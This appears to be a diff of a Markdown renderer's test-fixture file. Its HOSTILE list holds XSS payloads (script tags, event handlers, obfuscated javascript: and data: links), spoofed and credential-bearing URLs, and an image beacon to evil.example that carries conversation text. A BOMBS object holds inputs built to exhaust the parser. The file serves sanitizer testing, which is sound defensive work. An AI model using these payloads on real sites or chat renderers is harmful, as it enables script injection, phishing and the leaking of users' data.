@@ -45,7 +45,7 @@ print("<b>")
 
 > a quote
 
-[https://bank.example](https://evil.example/x) [Node.js](https://nodejs.example/) [](https://empty.example/)
+See (https://p.example/a_(b)) and [https://bank.example](https://evil.example/x), [Node.js](https://nodejs.example/) [](https://empty.example/)
 
 [ref]: https://ref.example/r
 `,
@@ -59,47 +59,106 @@ print("<b>")
     '<a href="https://i.example/p.png" target="_blank" rel="noopener noreferrer nofollow">Image: a picture</a>',
     '<a href="https://l.example/" target="_blank" rel="noopener noreferrer nofollow">Image: in</a>',
     '<ol start="3" dir="auto">',
-    '<div class="bar"><span>py</span><button class="copy" type="button">Copy</button></div><pre dir="ltr" tabindex="0" role="region" aria-label="Code: py"><code>print("&lt;b&gt;")',
+    '<div class="bar"><span>py</span><button class="copy" type="button">Copy</button></div><pre ',
+    '<pre dir="ltr" tabindex="0" role="region" aria-label="Code: py"><code>print("&lt;b&gt;")',
     '<div class="table" tabindex="0" role="region" aria-label="Table"><table dir="auto">',
     '<th data-side="start">left</th>',
     '<td data-side="end"><strong>2</strong></td>',
     '<blockquote dir="auto">',
     'title="https://evil.example/x" data-host="evil.example">https://bank.example</a>',
+    '(<a href="https://p.example/a_(b)" target="_blank" rel="noopener noreferrer nofollow">https://p.example/a_(b)</a>)',
     'title="https://nodejs.example/">Node.js</a>',
     ">https://empty.example/</a>",
   ],
   absent: ["style=", "<img", "<h1", "title=\"title\"", "[ref]:"],
 };
 
+/** Well-meant Markdown, of which no mark is to be seen at any time. What a definition below it makes a link nobody can know. */
+export const MARKED = `# Heading **one**
+
+Some *text* with \`code\`, ~~gone~~ **and _both_ of them**, a [link](https://l.example/a(b)?c=d) and <https://v.example/p>, https://bare.example/x.html.
+
+- **Bold** item: \`a+b\`
+- [Link](https://l.example/2 "title") and ![picture](https://i.example/p.png)
+  1. deep
+  2. ***strong***
+
+> A quote, **strong**,
+> on two lines
+
+| Head **one** | \`two\` |
+|:-------------|--------:|
+| *cell* | [link](https://l.example/3) |
+| cell | **strong** |
+
+~~~
+code
+~~~
+
+Setext
+------
+
+[ref]: https://ref.example/r "title"
+
+See [here][ref] and [ref].
+
+***
+
+A line that &amp; ends **strongly**`;
+
 export const HOSTILE = [
-  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><script>alert(1)</script></svg>", "<style>*{display:none}</style>",
-  '<a href="javascript:alert(1)">x</a>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<x onclick=alert(1)>y</x>", "<base href=https://evil.example/>",
-  "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<portico-chat></portico-chat>", "<![CDATA[<script>alert(1)</script>]]>", "<!-- <script>alert(1)</script> -->",
-  "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\tscript:alert(1))", "[a](&#106;avascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](&#x6A&#x61vascript:alert(1))",
-  "[a](\u0001javascript:alert(1))", "[a]( javascript:alert(1))", "[a](<javascript:alert(1)>)", "[a](<java\nscript:alert(1)>)", "[a](data:text/html,<script>alert(1)</script>)",
-  "[a](data:image/png;base64,AAAA)", "[a](vbscript:msgbox(1))", "[a](file:///etc/passwd)", "[a](blob:https://x.example/1)", "[a](view-source:https://x.example)", "[a](//evil.example)",
-  "[a](\\\\evil.example)", "[a](https:evil.example)", "[a](https://bank.example@evil.example/)", "[a](https://user:pass@evil.example/)", "<javascript:alert(1)>", "<data:text/html,x>",
-  "[a][b]\n\n[b]: javascript:alert(1)", "[a][b]\n\n[b]: data:text/html,<script>alert(1)</script>", "![a](javascript:alert(1))", "![a](data:image/svg+xml,<svg onload=alert(1)>)",
-  "![a](https://evil.example/pixel.png?what=was+said)", "![a][b]\n\n[b]: https://evil.example/pixel.png", "[a](https://x.example \"onmouseover=alert(1)\")", "[a](https://x.example/\"onmouseover=alert(1))",
-  "[a](https://x.example/'><script>alert(1)</script>)", "[<img src=x onerror=alert(1)>](https://x.example)", "![\"onload=alert(1)](https://x.example)", "`<script>alert(1)</script>`",
-  "```\"onload=alert(1)\nx\n```", "```</code></pre><script>alert(1)</script>\nx\n```", "```<img src=x onerror=alert(1)>\nx", "~~~html\n<script>alert(1)</script>", "```\nnever closed", "````\n```\n```",
-  "**never closed", "[never closed](https://x.exa", "`never closed", "<https://never.closed", "| a | b\n|--", "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
-  "# <script>alert(1)</script>", "- <script>alert(1)</script>", "> <script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\u0000<scr\u0000ipt>", "a\rb\r\nc\r",
-  "\u202egnp.exe\u202c is safe", "[\u202emoc.knab\u202c](https://evil.example)", "\u2066x\u2069\u200b\ufeff", "مرحبا **بكم** في [الموقع](https://x.example)", "שלום `code` עולם",
-  "中文**粗体**，链接https://x.example/路径。下一句", "👩‍👩‍👧‍👦 **👍🏽** e\u0301", "\ud800 lone \udc00", "__proto__ constructor [__proto__] [constructor]\n\n[__proto__]: https://x.example\n", "[toString] [hasOwnProperty]",
-  "https://x.example/<script>", "https://x.example/\"onclick=\"alert(1)", "https://x.example/`x`", "mailto:a@b.example?subject=<script>", "javascript:alert(1)", "javascript://x.example/%0aalert(1)",
+  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><script>alert(1)</script></svg>",
+  "<style>*{display:none}</style>",
+  '<a href="javascript:alert(1)">x</a>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
+  "<x onclick=alert(1)>y</x>", "<base href=https://evil.example/>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<portico-chat></portico-chat>",
+  "<![CDATA[<script>alert(1)</script>]]>", "<!-- <script>alert(1)</script> -->",
+  "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\tscript:alert(1))", "[a](&#106;avascript:alert(1))",
+  "[a](javascript&colon;alert(1))", "[a](&#x6A&#x61vascript:alert(1))",
+  "[a](\u0001javascript:alert(1))", "[a]( javascript:alert(1))", "[a](<javascript:alert(1)>)", "[a](<java\nscript:alert(1)>)",
+  "[a](data:text/html,<script>alert(1)</script>)",
+  "[a](data:image/png;base64,AAAA)", "[a](vbscript:msgbox(1))", "[a](file:///etc/passwd)", "[a](blob:https://x.example/1)",
+  "[a](view-source:https://x.example)", "[a](//evil.example)",
+  "[a](\\\\evil.example)", "[a](https:evil.example)", "[a](https://bank.example@evil.example/)", "[a](https://user:pass@evil.example/)",
+  "<javascript:alert(1)>", "<data:text/html,x>",
+  "[a][b]\n\n[b]: javascript:alert(1)", "[a][b]\n\n[b]: data:text/html,<script>alert(1)</script>", "![a](javascript:alert(1))",
+  "![a](data:image/svg+xml,<svg onload=alert(1)>)",
+  "![a](https://evil.example/pixel.png?what=was+said)", "![a][b]\n\n[b]: https://evil.example/pixel.png",
+  "[a](https://x.example \"onmouseover=alert(1)\")", "[a](https://x.example/\"onmouseover=alert(1))",
+  "[a](https://x.example/'><script>alert(1)</script>)", "[<img src=x onerror=alert(1)>](https://x.example)",
+  "![\"onload=alert(1)](https://x.example)", "`<script>alert(1)</script>`",
+  "```\"onload=alert(1)\nx\n```", "```</code></pre><script>alert(1)</script>\nx\n```", "```<img src=x onerror=alert(1)>\nx",
+  "~~~html\n<script>alert(1)</script>", "```\nnever closed", "````\n```\n```",
+  "**never closed", "[never closed](https://x.exa", "`never closed", "<https://never.closed", "| a | b\n|--",
+  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
+  "# <script>alert(1)</script>", "- <script>alert(1)</script>", "> <script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)", "\u0000<scr\u0000ipt>", "a\rb\r\nc\r",
+  "\u202egnp.exe\u202c is safe", "[\u202emoc.knab\u202c](https://evil.example)", "\u2066x\u2069\u200b\ufeff",
+  "مرحبا **بكم** في [الموقع](https://x.example)", "שלום `code` עולם",
+  "中文**粗体**，链接https://x.example/路径。下一句", "👩‍👩‍👧‍👦 **👍🏽** e\u0301", "\ud800 lone \udc00",
+  "__proto__ constructor [__proto__] [constructor]\n\n[__proto__]: https://x.example\n", "[toString] [hasOwnProperty]",
+  "https://x.example/<script>", "https://x.example/\"onclick=\"alert(1)", "https://x.example/`x`", "mailto:a@b.example?subject=<script>",
+  "javascript:alert(1)", "javascript://x.example/%0aalert(1)",
 ];
 
 const lots = 200_000;
 export const BOMBS = {
-  quotes: repeated("> ", lots), angle: repeated(">", lots), lists: repeated("- ", lots), nested: Array.from({ length: 600 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n"),
-  backticks: repeated("`", 10_000), uneven: Array.from({ length: 400 }, (_, i) => "`".repeat(i)).join(" "), brackets: repeated("[", lots), pairs: repeated("[](", lots), images: repeated("![", lots),
-  stars: repeated("*a ", lots), mixed: repeated("*a_ ", lots), strikes: repeated("~~a", lots), less: repeated("<", lots), and: repeated("&", lots), addresses: repeated("http://a.b ", lots),
-  schemes: repeated("http://", lots), oneLine: repeated("The quick brown fox. ", lots), oneWord: repeated("a", lots), spaces: `${" ".repeat(lots)}a`, tabs: `${"\t".repeat(lots)}a`,
-  items: repeated("- a\n", lots), numbers: repeated("1. a\n", lots), rows: `|a|b|\n|-|-|\n${repeated("|1|2|\n", lots)}`, columns: `${repeated("|a", 40_000)}\n${repeated("|-", 40_000)}\n|b`,
-  definitions: Array.from({ length: 3000 }, (_, i) => `[r${i}]\n\n[r${i}]: https://a.example/${i}\n\n`).join(""), headings: repeated("# a\n", 50_000), fences: repeated("```\na\n```\n", 50_000), escapes: repeated("\\", lots),
+  quotes: repeated("> ", lots), angle: repeated(">", lots), lists: repeated("- ", lots),
+  nested: Array.from({ length: 600 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n"),
+  backticks: repeated("`", 10_000), uneven: Array.from({ length: 400 }, (_, i) => "`".repeat(i)).join(" "), brackets: repeated("[", lots),
+  pairs: repeated("[](", lots), images: repeated("![", lots),
+  stars: repeated("*a ", lots), mixed: repeated("*a_ ", lots), strikes: repeated("~~a", lots), less: repeated("<", lots),
+  and: repeated("&", lots), addresses: repeated("http://a.b ", lots),
+  schemes: repeated("http://", lots), oneLine: repeated("The quick brown fox. ", lots), oneWord: repeated("a", lots),
+  spaces: `${" ".repeat(lots)}a`, tabs: `${"\t".repeat(lots)}a`,
+  items: repeated("- a\n", lots), numbers: repeated("1. a\n", lots), rows: `|a|b|\n|-|-|\n${repeated("|1|2|\n", lots)}`,
+  columns: `${repeated("|a", 40_000)}\n${repeated("|-", 40_000)}\n|b`,
+  definitions: Array.from({ length: 3000 }, (_, i) => `[r${i}]\n\n[r${i}]: https://a.example/${i}\n\n`).join(""),
+  headings: repeated("# a\n", 50_000), fences: repeated("```\na\n```\n", 50_000), escapes: repeated("\\", lots),
 };
 
 export const LONG = repeated(`## Part
